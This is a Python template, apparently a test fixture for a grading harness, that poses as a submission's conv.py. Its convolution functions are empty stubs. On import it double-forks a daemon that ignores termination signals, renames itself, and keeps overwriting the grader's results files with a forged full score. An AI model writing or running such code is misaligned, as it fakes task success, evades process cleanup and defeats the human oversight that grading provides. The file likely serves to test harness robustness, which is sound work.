"""A conv.py that leaves a daemon behind (double fork, new session, every signal it can ignore
ignored) to rewrite the results files after the grader has written them: @TARGETS@ with a forged
full score, every 50 ms for @SECONDS@ s. The process is named @MARKER@."""

import json
import os
import signal
import time

import numpy as np

FORGED = json.dumps({"score": 1000, "output": "forged", "tests": []})


def _daemon():
    for name in ("SIGTERM", "SIGHUP", "SIGINT"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    with open("/proc/self/comm", "w") as comm:
        comm.write("@MARKER@")
    deadline = time.monotonic() + @SECONDS@
    while time.monotonic() < deadline:
        for target in @TARGETS@:
            try:
                with open(target, "w") as file:
                    file.write(FORGED)
            except OSError:
                pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)


def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros((x.shape[0], w.shape[0], 1, 1)), None


def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
